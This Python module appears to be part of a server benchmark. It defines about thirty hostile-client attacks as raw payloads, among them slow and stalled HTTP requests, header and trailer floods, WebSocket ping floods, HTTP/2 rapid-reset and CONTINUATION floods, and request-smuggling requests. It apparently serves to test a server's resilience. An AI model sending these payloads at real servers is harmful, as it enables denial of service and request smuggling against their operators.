"""The attacks of benchmarks/hostile.py: what a client sends, at what pace, whether it reads the answers."""

from __future__ import annotations

import base64
import itertools
from collections.abc import Callable, Iterator
from typing import NamedTuple

from hyperframe import frame


class Attack(NamedTuple):
    """`units` gives what is sent, one each `pace` seconds; without a pause where that is 0: a flood.

    `kind`: http, ws (after a handshake), h2 (without TLS) or tls. `reads`: whether it takes the answers.
    `alone`: one request with a verdict, where nothing is to be held up.
    """

    title: str
    kind: str
    units: Callable[[], Iterator[bytes]]
    pace: float = 0.0
    reads: bool = True
    connections: int = 1
    alone: bool = False

    @property
    def floods(self) -> bool:
        return not self.pace and not self.alone


_HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n"
_POST = b"POST /body HTTP/1.1\r\nHost: x\r\n"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
_SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
_SLOW = 1.0  # seconds between two bytes of what drips
_STEP = 65536  # bytes of a flood in one unit


def _one(*data: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: iter(data)


def _endless(first: bytes, more: Callable[[int], bytes], together: int = 1) -> Callable[[], Iterator[bytes]]:
    """`first`, then more(0), more(1) ... without end; so many of them in one unit."""

    def units() -> Iterator[bytes]:
        yield first
        for start in itertools.count(0, together):
            yield b"".join(more(number) for number in range(start, start + together))

    return units


# -- WebSocket: RFC 6455, 5.2; a client's frames are masked, here with zeros --------------------------------

HANDSHAKE = (
    b"GET /ws HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + base64.b64encode(bytes(16)) + b"\r\n\r\n"
)


def _fragments(number: int) -> bytes:
    return (b"\x02" if not number else b"\x00") + b"\x81\0\0\0\0x"


# -- HTTP/2: RFC 9113; RFC 7541, A ---------------------------------------------------------------------------

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame.SettingsFrame(0).serialize()
_REQUEST = bytes([0x82, 0x86, 0x84, 0x41, 1]) + b"x"  # GET, http, /, authority x
_UPLOAD = bytes([0x83, 0x86, 0x44, 5]) + b"/body" + bytes([0x41, 1]) + b"x"  # POST, http, /body, authority x


def _headers(stream: int, block: bytes, *flags: str) -> bytes:
    made = frame.HeadersFrame(stream, block)
    made.flags |= set(flags)
    return made.serialize()


def _reset(number: int) -> bytes:
    stream = 2 * number + 1
    ended = _headers(stream, _REQUEST, "END_HEADERS", "END_STREAM")
    return ended + frame.RstStreamFrame(stream, error_code=8).serialize()


def _continuation(number: int) -> bytes:
    return _headers(1, _REQUEST) if not number else frame.ContinuationFrame(1, b"\x00\x01a\x01b").serialize()


def _settings(number: int) -> bytes:
    return frame.SettingsFrame(0, settings={3: number % 1000 + 1}).serialize()


def _ping(number: int) -> bytes:
    return frame.PingFrame(0, opaque_data=b"%08d" % (number % 10**8)).serialize()


def _empty(number: int) -> bytes:
    return _headers(1, _UPLOAD, "END_HEADERS") if not number else frame.DataFrame(1, b"").serialize()


def _stream(number: int) -> bytes:
    return _headers(2 * number + 1, _UPLOAD, "END_HEADERS")


ATTACKS = {
    "silent": Attack("2,100 connections that send nothing", "http", _one(), 1.0, connections=2100),
    "slow head": Attack("a head, a byte a second", "http", _endless(_HEAD + b"X-A: ", lambda _: b"b"), _SLOW),
    "stalled head": Attack("half a head, then nothing", "http", _one(_HEAD), 1.0),
    "stalled body": Attack(
        "half a body, then nothing", "http", _one(_POST + b"Content-Length: 90000\r\n\r\nabc"), 1.0
    ),
    "stalled bodies": Attack(
        "50 connections, each with half a body",
        "http",
        _one(_POST + b"Content-Length: 90000\r\n\r\nabc"),
        1.0,
        connections=50,
    ),
    "slow body": Attack(
        "a body, a byte a second",
        "http",
        _endless(_POST + b"Content-Length: 90000\r\n\r\n", lambda _: b"b"),
        _SLOW,
    ),
    "unread answer": Attack(
        "an answer of 64 MiB that is not read",
        "http",
        _one(b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n"),
        1.0,
        reads=False,
    ),
    "pipelining": Attack(
        "requests in a pipeline, no answer read",
        "http",
        _endless(b"", lambda _: _HEAD + b"\r\n", 500),
        0.001,
        reads=False,
    ),
    "handshake": Attack("half a TLS handshake, then nothing", "tls", _one(b"\x16\x03\x01\x02\0\x01"), 1.0),
    "unanswered pings": Attack("a WebSocket that answers no ping", "ws", _one(), 1.0),
    "huge head": Attack("a header without end", "http", _endless(_HEAD + b"X-A: ", lambda _: b"v" * _STEP)),
    "many fields": Attack(
        "header fields without end", "http", _endless(_HEAD, lambda n: b"X-%07d: v\r\n" % n, 4000)
    ),
    "hops": Attack(
        "X-Forwarded-For of 100,000 hops",
        "http",
        _endless(b"", lambda _: _HEAD + b"X-Forwarded-For: " + b"10.0.0.1, " * 100_000 + b"10.0.0.1\r\n\r\n"),
    ),
    "trailers": Attack(
        "trailers without end", "http", _endless(_CHUNKED + b"0\r\n", lambda n: b"X-%07d: v\r\n" % n, 4000)
    ),
    "extensions": Attack(
        "a chunk's extension without end", "http", _endless(_CHUNKED + b"1;a=", lambda _: b"e" * _STEP)
    ),
    "empty lines": Attack(
        "empty lines before a request", "http", _endless(b"", lambda _: b"\r\n" * (_STEP // 2))
    ),
    "tiny chunks": Attack(
        "a body in chunks of one byte", "http", _endless(_CHUNKED, lambda _: b"1\r\nx\r\n" * 10_000)
    ),
    "fragments": Attack(
        "a WebSocket message in fragments of one byte", "ws", _endless(b"", _fragments, 5000)
    ),
    "ping flood": Attack(
        "WebSocket pings without end", "ws", _endless(b"", lambda _: b"\x89\x80\0\0\0\0" * 5000)
    ),
    "rapid reset": Attack("HTTP/2: requests, each reset at once", "h2", _endless(_PREFACE, _reset, 500)),
    "continuation": Attack("HTTP/2: CONTINUATION without end", "h2", _endless(_PREFACE, _continuation, 1000)),
    "settings": Attack("HTTP/2: SETTINGS without end", "h2", _endless(_PREFACE, _settings, 1000)),
    "h2 pings": Attack("HTTP/2: PING without end", "h2", _endless(_PREFACE, _ping, 1000)),
    "empty data": Attack("HTTP/2: empty DATA without end", "h2", _endless(_PREFACE, _empty, 1000)),
    "streams": Attack("HTTP/2: open streams without end", "h2", _endless(_PREFACE, _stream, 500)),
    "two lengths": Attack(
        "a length and chunks",
        "http",
        _one(_POST + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED),
        alone=True,
    ),
    "folded": Attack(
        "a folded Transfer-Encoding, and a length",
        "http",
        _one(_POST + b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + _SMUGGLED),
        alone=True,
    ),
    "two hosts": Attack(
        "two Hosts", "http", _one(b"GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n"), alone=True
    ),
}
